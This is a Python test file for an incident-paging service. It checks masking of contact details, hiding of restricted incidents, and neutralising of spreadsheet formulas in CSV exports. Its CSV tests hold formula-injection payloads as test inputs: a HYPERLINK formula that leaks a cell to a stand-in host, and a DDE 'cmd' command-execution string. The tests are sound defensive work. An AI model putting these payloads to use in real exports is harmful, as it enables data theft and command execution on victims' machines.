"""Need-to-know for other people's data: contact destinations are shown in full only to their owner
and admins (masked for everyone else, on every surface); a restricted incident the caller may not
see leaves no trace (no link, no hint, no count); CSV exports never carry live spreadsheet formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import uuid
from datetime import timedelta

import pytest
import sqlalchemy as sa

from tocsin.actions.models import ActionItem
from tocsin.cli.learning_report import CSV_COLUMNS, to_csv
from tocsin.config import Settings
from tocsin.contacts.mask import mask, scrub
from tocsin.contacts.models import ContactMethod, NotificationRule
from tocsin.csvsafe import cell
from tocsin.engine.runner import Engine
from tocsin.escalation.deliver import deliver
from tocsin.escalation.models import Notification
from tocsin.escalation.steps import escalations
from tocsin.inbound.types import Action, AlertSeverity, Event
from tocsin.incidents.models import Incident
from tocsin.pipeline.ingest import Incoming, ingest

PHONE = "+14155550123"
WEBHOOK = "https://hookuser:hookpass99@hooks.example.test/services/T0PATHSECRET?token=querysecret42"
SLACK = "https://hooks.slack.com/services/T000/B000/slacksecret77"
APPRISE = "tgram://123456789:AAbottokensecret/987654321"
BROKEN = "ftp://ftpuser:ftpsecret88@files.example.test/drop"  # stored before validation; fails to send
SECRETS = ("hookpass99", "T0PATHSECRET", "querysecret42", "slacksecret77", "AAbottokensecret", "5550123",
           "ftpsecret88")


# --- helpers -------------------------------------------------------------------------------------

def _alert(client, db, clock, admin, summary="checkout down"):
    svc = client.get("/api/v1/services/checkout", headers=admin).json()["id"]
    with db.unit_of_work() as s:
        ev = Event(action=Action.trigger, dedup_key=f"k-{uuid.uuid4()}", summary=summary,
                   severity=AlertSeverity.critical, source="t", labels={})
        return ingest(s, [Incoming(ev, uuid.UUID(svc), None, "events_v2")], now=clock.now())[0].alert_id


@pytest.fixture
def world(client, make_person, make_service, db, clock):
    """Alice (a responder) has verified SMS, webhook, Slack, Apprise and a broken FTP "webhook"
    method, each paging at once; checkout's policy pages her; Bob is another responder."""
    make_service("checkout", tier=1)
    people = {"admin": make_person("admin", name="Admin"), "alice": make_person("responder", name="Alice"),
              "bob": make_person("responder", name="Bob"), "viewer": make_person("viewer", name="Viewer")}
    alice = people["alice"]
    with db.unit_of_work() as s:
        for kind, address in (("sms", PHONE), ("webhook", WEBHOOK), ("slack", SLACK), ("apprise", APPRISE),
                              ("webhook", BROKEN)):
            m = ContactMethod(user_id=alice.id, type=kind, address=address, label="", created_at=clock.now(),
                              verified_at=clock.now(), verify_attempts=0)
            s.add(m)
            s.flush()
            s.add(NotificationRule(user_id=alice.id, contact_method_id=m.id, delay_minutes=0, urgency="any",
                                   created_at=clock.now()))
    admin = people["admin"].headers
    r = client.post("/api/v1/escalation-policies", headers=admin, json={"name": "Checkout", "levels": [
        {"delay_minutes": 5, "targets": [{"type": "user", "email": alice.email}]}]})
    assert r.status_code == 201, r.text
    client.put("/api/v1/services/checkout/escalation-policy", json={"policy": "checkout"}, headers=admin)
    return people


def _page_alice(client, db, clock, world, *, send=False):
    alert_id = _alert(client, db, clock, world["admin"].headers)
    Engine(db, clock, settings=Settings(secret_key="x"), modules=[("escalations", escalations)]).tick()
    if send:  # only the broken method is due to fail at once; the others have nowhere to go
        with db.unit_of_work() as s:
            s.execute(sa.update(Notification).where(Notification.destination != BROKEN)
                      .values(status="cancelled"))
        Engine(db, clock, settings=Settings(secret_key="x"), modules=[("deliver", deliver)]).tick()
    return alert_id


def _leaks(text: str) -> list[str]:
    return [s for s in SECRETS if s in text]


# --- item 3: contact destinations ------------------------------------------------------------------

@pytest.mark.parametrize("who", ["viewer", "bob"])
def test_others_see_an_alerts_notifications_with_masked_destinations(client, db, clock, world, who):
    alert_id = _page_alice(client, db, clock, world)
    headers = world[who].headers
    notes = client.get(f"/api/v1/alerts/{alert_id}/notifications", headers=headers)
    trail = client.get(f"/api/v1/alerts/{alert_id}/escalation", headers=headers)
    assert notes.status_code == trail.status_code == 200, notes.text + trail.text
    assert _leaks(notes.text) == [] and _leaks(trail.text) == []
    # nor a hash of it: a phone number is found again from its SHA-256 by trying them all
    tag = hashlib.sha256(f"sms:{PHONE}:0".encode()).hexdigest()[:16]
    assert tag not in trail.text and tag in client.get(f"/api/v1/alerts/{alert_id}/escalation",
                                                       headers=world["admin"].headers).text
    shown = {n["channel"]: n["destination"] for n in notes.json()["items"]}
    # still useful to a responder: which kind, the last digits, the webhook's host
    assert shown["sms"].endswith("0123") and PHONE not in shown["sms"]
    assert shown["slack"] == "https://hooks.slack.com/…"
    assert shown["apprise"] == "tgram://…"
    assert "https://hooks.example.test/…" in {n["destination"] for n in notes.json()["items"]}
    assert {n["destination"] for n in trail.json()["notifications"]} == set(shown.values()) | {
        n["destination"] for n in notes.json()["items"]}


@pytest.mark.parametrize("who", ["alice", "admin"])
def test_the_owner_and_admins_see_destinations_in_full(client, db, clock, world, who):
    alert_id = _page_alice(client, db, clock, world)
    headers = world[who].headers
    for got in (client.get(f"/api/v1/alerts/{alert_id}/notifications", headers=headers).json()["items"],
                client.get(f"/api/v1/alerts/{alert_id}/escalation", headers=headers).json()["notifications"]):
        assert {n["destination"] for n in got} == {PHONE, WEBHOOK, SLACK, APPRISE, BROKEN}


def test_a_failed_sends_reason_does_not_carry_the_destinations_secrets(client, db, clock, world):
    alert_id = _page_alice(client, db, clock, world, send=True)
    # the owner sees what went wrong (in tocsin's words: since the egress work no reason quotes the URL)
    mine = client.get(f"/api/v1/alerts/{alert_id}/notifications", headers=world["alice"].headers).json()["items"]
    failed = [n for n in mine if n["status"] == "failed"]
    assert failed and "invalid webhook URL" in failed[0]["last_error"], mine
    for who in ("viewer", "bob"):
        headers = world[who].headers
        for path in (f"/api/v1/alerts/{alert_id}/notifications", f"/api/v1/alerts/{alert_id}/escalation",
                     f"/api/v1/alerts/{alert_id}"):
            r = client.get(path, headers=headers)
            assert r.status_code == 200 and _leaks(r.text) == [], (path, r.text)
    # the paging trail on the alert (readable by anyone) says what failed without the secret
    reasons = [d["reason"] for d in client.get(f"/api/v1/alerts/{alert_id}", headers=world["admin"].headers)
               .json()["decisions"] if d["kind"] == "notification_failed"]
    assert reasons and "invalid webhook URL" in reasons[0] and _leaks(reasons[0]) == [], reasons


# --- item 8: a restricted incident the caller may not see does not exist for them -----------------

@pytest.fixture
def hidden(client, make_person, make_service, db, clock):
    """An alert of checkout attached by Sam (security) to a restricted incident Bob may not see."""
    make_service("checkout", tier=1)
    admin, sam, bob = make_person("admin"), make_person("responder", name="Sam"), make_person("responder", name="Bob")
    r = client.post("/api/v1/incidents", json={"title": "Possible data exfiltration", "severity": "SEV1",
                                               "kind": "security"}, headers=sam.headers)
    assert r.status_code == 201 and r.json()["restricted"], r.text
    secret = r.json()["ref"]
    alert_id = str(_alert(client, db, clock, admin.headers, summary="Unusual egress from db1"))
    assert client.post(f"/api/v1/alerts/{alert_id}/attach", json={"incident": secret},
                       headers=sam.headers).status_code == 200
    plain = str(_alert(client, db, clock, admin.headers, summary="Slow checkout"))
    return {"admin": admin, "sam": sam, "bob": bob, "secret": secret, "alert": alert_id, "plain": plain}


def test_an_alert_on_a_hidden_incident_looks_like_any_unattached_alert(client, hidden):
    bob = hidden["bob"].headers
    seen = client.get(f"/api/v1/alerts/{hidden['alert']}", headers=bob).json()
    plain = client.get(f"/api/v1/alerts/{hidden['plain']}", headers=bob).json()
    assert seen["incident"] is None
    assert [d["kind"] for d in seen["decisions"]] == [d["kind"] for d in plain["decisions"]], \
        "no trace of the attachment: not even a redacted decision"
    text = str(seen).lower()
    assert "may not see" not in text and hidden["secret"].lower() not in text and "exfiltration" not in text
    # those who may see it still see the link and why
    sam = client.get(f"/api/v1/alerts/{hidden['alert']}", headers=hidden["sam"].headers).json()
    assert sam["incident"] == hidden["secret"] and "attached" in [d["kind"] for d in sam["decisions"]]


def test_moving_an_alert_off_a_hidden_incident_is_refused_without_naming_it(client, hidden):
    bob = hidden["bob"]
    r = client.post("/api/v1/incidents", json={"title": "Slow checkout", "severity": "SEV3"}, headers=bob.headers)
    mine = r.json()["ref"]
    r = client.post(f"/api/v1/alerts/{hidden['alert']}/attach", json={"incident": mine}, headers=bob.headers)
    assert r.status_code == 409, r.text
    text = r.text.lower()
    assert "may not see" not in text and "restricted" not in text and hidden["secret"].lower() not in text
    assert client.get(f"/api/v1/alerts/{hidden['alert']}", headers=hidden["sam"].headers).json()["incident"] \
        == hidden["secret"], "the restricted incident keeps its alert"
    # a hidden incident's ref answers exactly as one that does not exist
    for ref in (hidden["secret"], "INC-999"):
        r = client.post(f"/api/v1/alerts/{hidden['plain']}/attach", json={"incident": ref}, headers=bob.headers)
        assert r.status_code == 404 and r.json()["error"]["message"] == f"no incident {ref}", r.text


@pytest.mark.both_backends  # the need-to-know filter is SQL
def test_metrics_leave_out_everything_of_restricted_incidents(client, db, clock, hidden):
    now = clock.now()
    with db.unit_of_work() as s:
        secret_id = s.execute(sa.select(Incident.id).where(Incident.restricted.is_(True))).scalar_one()
        for n, incident_id in enumerate((secret_id, None), start=1):
            s.add(ActionItem(id=uuid.uuid4(), number=n, title="t", type="prevent", priority="high", status="open",
                             due_at=now - timedelta(days=1), created_at=now, updated_at=now,
                             incident_id=incident_id))
    for who in ("bob", "admin"):  # one set of series for whoever scrapes
        r = client.get("/metrics", headers=hidden[who].headers)
        assert r.status_code == 200, r.text
        line = [x for x in r.text.splitlines() if x.startswith("tocsin_action_items_overdue ")]
        assert line == ["tocsin_action_items_overdue 1.0"], line


# --- item 10 (part): CSV exports carry no live formulas --------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)"]


@pytest.mark.parametrize("title", FORMULAS)
def test_incident_csv_export_makes_formula_titles_inert(client, make_person, title):
    admin = make_person("admin")
    r = client.post("/api/v1/incidents", json={"title": title, "severity": "SEV3"}, headers=admin.headers)
    assert r.status_code == 201 and r.json()["title"] == title, r.text
    r = client.get("/api/v1/incidents/export", headers=admin.headers)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["title"] == "'" + title, "a leading quote makes a spreadsheet show the text, not run it"
    assert rows[0]["ref"] == "INC-1" and rows[0]["severity"] == "SEV3", "other cells are unchanged"


@pytest.mark.both_backends  # the need-to-know filter is SQL
def test_oncall_load_counts_commander_pages_of_hidden_incidents_only_for_those_who_see_them(
        client, db, clock, make_person):
    admin, alice, bob = make_person("admin"), make_person("responder", name="Alice"), make_person("responder")
    refs = {}
    for title, restricted in (("Possible data exfiltration", True), ("Slow checkout", False)):
        r = client.post("/api/v1/incidents", json={"title": title, "severity": "SEV1", "restricted": restricted},
                        headers=admin.headers)
        refs[restricted] = r.json()["id"]
    sent = clock.now() - timedelta(hours=1)
    with db.unit_of_work() as s:
        for incident_id in refs.values():
            s.add(Notification(id=uuid.uuid4(), user_id=alice.id, incident_id=uuid.UUID(incident_id),
                               channel="sms", destination=PHONE, kind="incident", subject="s", body="b",
                               idempotency_key=f"{uuid.uuid4()}:0:{alice.id}:aaaa", status="sent",
                               created_at=sent, send_after=sent, sent_at=sent))
    period = {"since": (clock.now() - timedelta(days=1)).isoformat(), "until": clock.now().isoformat()}

    def pages(who) -> int:
        r = client.get("/api/v1/reports/oncall", params=period, headers=who.headers)
        assert r.status_code == 200, r.text
        return {p["user"]["name"]: p["pages"] for p in r.json()["people"]}.get("Alice", 0)

    assert pages(bob) == 1, "the page to take command of a restricted incident is not counted for Bob"
    assert pages(admin) == 2


@pytest.mark.parametrize(("channel", "destination", "masked"), [
    ("sms", "+14155550123", "+…0123"),
    ("voice", "+442071838750", "+…8750"),
    ("email", "alice.private@example.org", "a…@example.org"),
    ("webhook", "https://u:p@hooks.example.test:8443/x/y?z=1#f", "https://hooks.example.test:8443/…"),
    ("slack", "C0123ABCDEF", "C…"),
    ("mattermost", "@ivy.ops", "@…"),  # a person: which one stays hidden
    ("mattermost", "4xp9hcuwejgbfkx3ta1oaztgrh", "…"),
    ("teams", "https://prod-1.westus.logic.azure.com:443/workflows/w1/triggers/manual/paths/invoke?sig=s1g9",
     "https://prod-1.westus.logic.azure.com:443/…"),
    ("apprise", "pover://userkey@apptoken", "pover://…"),
    ("webhook", "http://[::1", "http://…"),  # unparseable: nothing of it, and no error
    ("email", "", ""),
])
def test_the_masked_forms(channel, destination, masked):
    assert mask(channel, destination) == masked
    assert scrub(f"could not reach {destination}", channel, destination) == f"could not reach {masked}"


def test_csv_cells_with_tab_or_carriage_return_are_inert_and_numbers_are_kept():
    assert [cell(v) for v in ("\tx", "\rx", "-1", -1, 2.5, "ok", "")] == ["'\tx", "'\rx", "'-1", -1, 2.5, "ok", ""]


def test_the_learning_report_csv_makes_a_formula_group_inert():
    # Groups are keyed by service, team, severity or label value; label values come from alert senders.
    def metrics(n: int) -> dict:
        out: dict = {}
        for _name, path in CSV_COLUMNS:
            node = out
            for key in path[:-1]:
                node = node.setdefault(key, {})
            node[path[-1]] = n
        return out

    text = to_csv({"overall": metrics(2), "groups": [{"key": "=cmd|' /C calc'!A0", "metrics": metrics(-1)}]})
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[2][0] == "'=cmd|' /C calc'!A0" and rows[2][1] == "-1", "a number stays a number"
